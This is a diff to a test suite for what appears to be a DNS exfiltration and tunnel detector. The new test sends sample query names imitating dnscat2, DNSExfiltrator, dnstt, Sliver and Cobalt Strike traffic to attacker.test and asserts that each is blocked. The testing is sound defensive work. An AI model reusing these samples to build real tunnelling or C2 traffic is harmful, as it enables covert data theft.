@@ -227,6 +227,24 @@ def test_bulk_exfiltration_ends(watching, lab, encode):
     assert watching.ask("site00.com").rcode() == dns.rcode.NOERROR
 
 
+@pytest.mark.parametrize("qtype, name", [
+    ("MX", "0a6803580700000000b5d61cb537f5741b82bc3242ed7032ee2a567d839f.d523c401145b1a29dc8b43f8a031a38d4fedd2d0a88cbedc"
+           "845fe3e51e39.a631ae8007b5a60add8b4821b2"),  # dnscat2
+    ("TXT", "init.MRTDCLJRPQZA.base64"),  # DNSExfiltrator
+    ("TXT", "ingesrkokreujy6zumkse43vobsxey3bnruwm4tbm5uwy2ltoruwgzlyobuwc3d.jmrxwg2lpovzq"),  # dnstt
+    ("A", "baakbmp1y218"),  # Sliver
+    ("A", "post.140.0346c53ab.456c54f2"),  # Cobalt Strike
+])
+def test_the_first_name_of_a_tool_does_not_leave(watching, lab, qtype, name):
+    mark = lab.bad_log_mark()
+    assert watching.ask(f"{name}.attacker.test", qtype).rcode() == dns.rcode.NXDOMAIN
+    assert leaked(lab, mark) == 0
+    event = watching.wait_event(lambda e: e["weir"].get("trigger") == "detector")
+    finding = event["weir"]["detections"][0]
+    assert finding["detector"] == "tunnel" and finding["action"] == "block"
+    assert watching.ask("www.attacker.test").rcode() == dns.rcode.NOERROR
+
+
 def test_the_client_is_told_why(watching):
     leave(watching, "attacker.test", hexadecimal, 80)
     reply = watching.ask("0123456789abcdef0123456789abcdef.attacker.test")
